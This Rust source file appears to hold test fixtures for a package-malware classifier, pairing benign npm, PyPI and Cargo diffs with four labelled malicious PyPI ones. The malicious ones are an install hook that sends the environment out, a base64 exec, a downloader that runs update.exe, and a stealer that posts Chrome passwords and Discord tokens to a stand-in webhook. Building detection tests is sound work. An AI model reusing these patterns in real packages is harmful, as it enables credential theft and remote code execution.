//! Written by hand and inert: addresses of documentation and hosts that cannot exist, nothing that could be run to harm.

use lockgate_classifier::Ecosystem;

pub(crate) struct Difference {
    pub(crate) name: &'static str,
    pub(crate) ecosystem: Ecosystem,
    pub(crate) malicious: bool,
    /// Nothing for a new package.
    pub(crate) old: &'static [(&'static str, &'static str)],
    pub(crate) new: &'static [(&'static str, &'static str)],
}

pub(crate) const DIFFERENCES: &[Difference] = &[
    Difference {
        name: "a function is added to a module of npm",
        ecosystem: Ecosystem::Npm,
        malicious: false,
        old: &[
            ("package.json", "{\"name\": \"pad\", \"version\": \"1.0.0\", \"main\": \"index.js\"}\n"),
            ("index.js", "'use strict';\n\nmodule.exports.left = (text, width) => text.padStart(width);\n"),
        ],
        new: &[
            ("package.json", "{\"name\": \"pad\", \"version\": \"1.1.0\", \"main\": \"index.js\"}\n"),
            (
                "index.js",
                "'use strict';\n\nmodule.exports.left = (text, width) => text.padStart(width);\n\nmodule.exports.right = (text, width) => {\n  if (typeof text !== 'string') {\n    throw new TypeError('text must be a string');\n  }\n  return text.padEnd(width);\n};\n",
            ),
        ],
    },
    Difference {
        name: "a cache and its test are added to a package of PyPI",
        ecosystem: Ecosystem::Pypi,
        malicious: false,
        old: &[("shop/cart.py", "class Cart:\n    def __init__(self):\n        self.items = []\n")],
        new: &[
            (
                "shop/cart.py",
                "from functools import lru_cache\n\n\nclass Cart:\n    \"\"\"What a customer wants.\"\"\"\n\n    def __init__(self):\n        self.items = []\n\n    def total(self, currency='EUR'):\n        return sum(price(item, currency) for item in self.items)\n\n\n@lru_cache(maxsize=256)\ndef price(item, currency):\n    return item.price * rate(currency)\n",
            ),
            (
                "tests/test_cart.py",
                "import pytest\n\nfrom shop.cart import Cart\n\n\n@pytest.mark.parametrize('count', [0, 1, 2])\ndef test_total(count):\n    cart = Cart()\n    assert cart.total() == 0\n",
            ),
        ],
    },
    Difference {
        name: "a new crate builds a table",
        ecosystem: Ecosystem::Cargo,
        malicious: false,
        old: &[],
        new: &[
            (
                "Cargo.toml",
                "[package]\nname = \"table\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n",
            ),
            (
                "build.rs",
                "use std::{env, fs, path::Path};\n\nfn main() {\n    let out = env::var(\"OUT_DIR\").unwrap();\n    let squares: Vec<u32> = (0..256).map(|n| n * n).collect();\n    fs::write(Path::new(&out).join(\"table.rs\"), format!(\"pub const SQUARES: [u32; 256] = {squares:?};\")).unwrap();\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n",
            ),
            (
                "src/lib.rs",
                "//! A table of squares.\n\ninclude!(concat!(env!(\"OUT_DIR\"), \"/table.rs\"));\n\n/// The square of `n`.\npub fn square(n: u8) -> u32 {\n    SQUARES[usize::from(n)]\n}\n",
            ),
        ],
    },
    Difference {
        name: "an installer of PyPI sends the environment away",
        ecosystem: Ecosystem::Pypi,
        malicious: true,
        old: &[("setup.py", "from setuptools import setup\n\nsetup(name='shop', version='1.0')\n")],
        new: &[(
            "setup.py",
            "import os\nimport socket\nimport urllib.request\n\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass CustomInstall(install):\n    def run(self):\n        install.run(self)\n        data = {'host': socket.gethostname(), 'user': os.getlogin(), 'env': dict(os.environ)}\n        urllib.request.urlopen('https://collector.invalid/hook', data=str(data).encode())\n\n\nsetup(name='shop', version='1.1', cmdclass={'install': CustomInstall})\n",
        )],
    },
    Difference {
        name: "a module of PyPI runs what it decodes",
        ecosystem: Ecosystem::Pypi,
        malicious: true,
        old: &[("shop/__init__.py", "from .cart import Cart\n")],
        new: &[(
            "shop/__init__.py",
            "from .cart import Cart\nimport base64\nexec(base64.b64decode('cHJpbnQoIk5vdGhpbmcgaGFwcGVucyBoZXJlLiBUaGlzIGlzIGEgZml4dHVyZSBvZiBhIHRlc3QuIik='))\n",
        )],
    },
    Difference {
        name: "a new package of PyPI fetches a program and starts it",
        ecosystem: Ecosystem::Pypi,
        malicious: true,
        old: &[],
        new: &[
            (
                "setup.py",
                "from setuptools import setup\nimport os, subprocess, tempfile\nimport requests\n\ntry:\n    path = os.path.join(tempfile.gettempdir(), 'update.exe')\n    with open(path, 'wb') as f:\n        f.write(requests.get('http://192.0.2.7/update.exe').content)\n    subprocess.Popen(path, shell=True)\nexcept Exception:\n    pass\n\nsetup(name='shopp', version='9.9.9', packages=['shopp'])\n",
            ),
            ("shopp/__init__.py", ""),
        ],
    },
    Difference {
        name: "a new package of PyPI reads a browser's passwords",
        ecosystem: Ecosystem::Pypi,
        malicious: true,
        old: &[],
        new: &[(
            "shopp/__init__.py",
            "import os, json, base64, sqlite3, shutil\nimport requests\n\nWEBHOOK = 'https://chat.invalid/api/webhooks/0/none'\nLOCAL = os.getenv('LOCALAPPDATA')\n\n\ndef passwords():\n    path = LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'\n    shutil.copy2(path, 'copy.db')\n    rows = sqlite3.connect('copy.db').execute('SELECT origin_url, username_value, password_value FROM logins')\n    return [row for row in rows.fetchall()]\n\n\ndef tokens():\n    path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    return [open(path + '\\\\' + name, errors='ignore').read() for name in os.listdir(path)]\n\n\nrequests.post(WEBHOOK, json={'content': json.dumps([passwords(), tokens()])})\n",
        )],
    },
];
